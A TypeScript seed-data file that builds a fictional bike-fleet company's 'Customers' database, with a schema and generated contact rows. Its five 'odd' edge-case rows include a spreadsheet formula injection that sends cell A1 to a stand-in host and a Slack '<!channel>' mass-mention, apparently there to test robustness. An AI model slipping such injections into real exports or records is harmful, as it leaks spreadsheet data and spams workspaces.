import type { SeedDataSource, SeedRow } from '../company.ts';
import { uuidOf } from '../ids.ts';
import { type Chance, createChance } from './chance.ts';
import { makeRow, readTable, slugOf } from './row.ts';

export interface Customer {
  slug: string;
  name: string;
  segment: string;
  country: string;
  bikes: number;
  owner: string;
}

/** The real ones; a row's slug is `cus-` and the customer's. */
export function readCustomers(): Customer[] {
  return readTable('customers.csv').map(({ name = '', segment = '', country = '', bikes, owner = '' }) => ({
    slug: slugOf(name),
    name,
    segment,
    country,
    bikes: Number(bikes),
    owner,
  }));
}

const segments = ['Enterprise fleet', 'Mid-size fleet', 'Small business', 'Dealer', 'Public'];
const tags = [
  'API',
  'Console 2.0 wave 1',
  'Console 2.0 wave 2',
  'lease',
  'own mechanics',
  'reference',
  'winter storage',
];
const firstNames = [
  'Anna',
  'Uwe',
  'Silke',
  'Jonas',
  'Marta',
  'Piet',
  'Siobhan',
  'Rafael',
  'Ingrid',
  'Oluwaseun',
  'Katja',
];
const lastNames = [
  'Harms',
  'Brandes',
  'Svensson',
  'Costa',
  'Whitfield',
  'de Wit',
  'Lindgren',
  'Moreau',
  'Adair',
  'Kruse',
];
/** People whom pages name. */
const contacts: Record<string, string> = { 'pedalwerk-gmbh': 'Uwe Harms' };
const phoneStarts: Record<string, string> = {
  Sweden: '+46 31 390 06',
  Germany: '+49 30 23125 ',
  Portugal: '+351 21 000 ',
};

/** 110 customers, five of them odd. */
export function customersSource(): SeedDataSource {
  const countries = [...new Set(readCustomers().map(({ country }) => country))];
  return {
    slug: 'customers',
    id: uuidOf('source', 'customers'),
    databaseId: uuidOf('database', 'customers'),
    title: 'Customers',
    icon: '🏙️',
    description: 'Fleets, dealers and public bodies. Riders are not here.',
    parent: 'customers-sales',
    properties: {
      Customer: { type: 'title' },
      Number: { type: 'unique_id', prefix: 'CUS' },
      Stage: {
        type: 'status',
        options: [
          { name: 'Lead', color: 'default' },
          { name: 'In talks', color: 'yellow' },
          { name: 'Active', color: 'green' },
          { name: 'Paused', color: 'orange' },
          { name: 'Lost', color: 'red' },
        ],
        groups: [
          { name: 'To-do', options: ['Lead', 'In talks'] },
          { name: 'In progress', options: ['Active', 'Paused'] },
          { name: 'Complete', options: ['Lost'] },
        ],
      },
      Segment: { type: 'select', options: segments.map((name) => ({ name, color: 'blue' })) },
      Country: { type: 'select', options: countries.map((name) => ({ name, color: 'gray' })) },
      City: { type: 'rich_text' },
      Owner: { type: 'people' },
      Bikes: { type: 'number', format: 'number_with_commas' },
      'Partner level': {
        type: 'select',
        options: ['Shore', 'Bay', 'Ocean'].map((name) => ({ name, color: 'blue' })),
      },
      Contact: { type: 'rich_text' },
      Email: { type: 'email' },
      Phone: { type: 'phone_number' },
      Website: { type: 'url' },
      'Customer since': { type: 'date' },
      Satisfaction: { type: 'number', format: 'number' },
      Reference: { type: 'checkbox' },
      Tags: { type: 'multi_select', options: tags.map((name) => ({ name, color: 'gray' })) },
      Contracts: { type: 'relation', target: 'contracts', synced: 'Customer' },
      Invoices: { type: 'relation', target: 'invoices', synced: 'Customer' },
      Invoiced: { type: 'rollup', relation: 'Invoices', property: 'Total', function: 'sum' },
      Open: { type: 'rollup', relation: 'Invoices', property: 'Open', function: 'sum' },
      'Last invoice': { type: 'rollup', relation: 'Invoices', property: 'Issued', function: 'latest_date' },
      Edited: { type: 'last_edited_time' },
      'Edited by': { type: 'last_edited_by' },
    },
    rows: [...customerRows(), ...oddRows],
  };
}

function customerRows(): SeedRow[] {
  const chance = createChance(110);
  const cities = new Map(readTable('customers.csv').map((line) => [line.name, line.city]));
  return readCustomers().map((customer) => {
    const { slug, name, segment, country, bikes, owner } = customer;
    const since = chance.day('2019-03-01', '2026-06-30');
    const contact = contacts[slug] ?? `${chance.pick(firstNames)} ${chance.pick(lastNames)}`;
    const values = {
      Customer: name,
      Stage: stageOf(chance, bikes),
      Segment: segment,
      Country: country,
      City: cities.get(name),
      Owner: [owner],
      Bikes: bikes,
      'Partner level': segment === 'Dealer' || slug in ocean ? levelOf(slug, bikes) : undefined,
      Contact: contact,
      Email: `${slugOf(contact).replaceAll('-', '.')}@${slug}.example`,
      Phone: `${phoneStarts[country] ?? '+44 20 7946 0'}${chance.int(100, 999)}`,
      Website: `https://${slug}.example`,
      'Customer since': bikes > 0 ? { start: since } : undefined,
      Satisfaction: chance.yes(0.7) && bikes > 0 ? chance.int(4, 10) : undefined,
      Reference: bikes > 0 && chance.yes(0.25),
      Tags: chance.some(tags, chance.int(0, 3)),
    };
    const edited = chance.day('2026-02-02', '2026-11-19');
    return makeRow(`cus-${slug}`, values, { created: since, edited, by: owner });
  });
}

const ocean: Record<string, true> = { 'nordhjul-ab': true, 'pedalwerk-gmbh': true, 'velocity-fleet-ltd': true };

function levelOf(slug: string, bikes: number): string {
  if (slug in ocean) return 'Ocean';
  return bikes >= 50 ? 'Bay' : 'Shore';
}

function stageOf(chance: Chance, bikes: number): string {
  if (bikes === 0) return 'In talks';
  if (bikes > 100 || chance.yes(0.84)) return 'Active';
  return chance.pick(['Paused', 'Lost', 'In talks', 'Lead']);
}

const oddRows: SeedRow[] = [
  {},
  { Customer: '=HYPERLINK("https://cloudspoke.example/?"&A1;"Click")', Stage: 'Lead', Bikes: -4 },
  { Customer: '<!channel> Bikes & Sons', Stage: 'Lead', Bikes: 0, Website: 'https://channel.example' },
  { Customer: 'Test customer – please do not use', Stage: 'Lost', Bikes: 1_000_000_000 },
  { Customer: 'متجر الدراجات', Stage: 'Lead', Country: 'France', Bikes: 3 },
].map((values, index) =>
  makeRow(`cus-odd-${index + 1}`, values, { created: '2025-05-05', edited: '2025-05-06', by: 'grace' }),
);
